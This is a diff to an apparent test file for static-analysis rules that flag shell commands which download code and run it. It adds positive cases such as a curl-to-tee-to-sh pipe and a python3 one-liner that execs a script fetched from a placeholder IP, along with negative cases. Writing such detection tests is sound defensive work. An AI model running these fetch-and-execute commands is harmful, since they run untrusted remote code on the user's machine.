@@ -11,6 +11,8 @@ wget -qO- https://x.example/setup | sh
 wget -O - http://198.51.100.2/p | /bin/sh
 # ruleid: sh-download-piped-to-shell
 curl -s https://x.example/p.py | python3 -
+# ruleid: sh-download-piped-to-shell
+curl -s https://x.example/a.sh | tee /tmp/a.sh | sh
 # ok: sh-download-piped-to-shell
 curl -s https://api.example/status | jq .state
 # ok: sh-download-piped-to-shell
@@ -27,6 +29,10 @@ source <(wget -qO- https://x.example/env.sh)
 # ok: sh-shell-runs-downloaded-script
 VERSION="$(curl -fsSL https://x.example/VERSION)"
 
+# ruleid: sh-inline-interpreter-runs-download
+python3 -c "import urllib.request as u; exec(u.urlopen('http://198.51.100.3/p.py').read())"
+# ok: sh-inline-interpreter-runs-download
+python3 -c "import json, sys; print(json.load(sys.stdin)['v'])"
 # ruleid: sh-encoded-payload-piped-to-shell
 echo ZWNobyBoaQ== | base64 -d | bash
 # ruleid: sh-encoded-payload-piped-to-shell
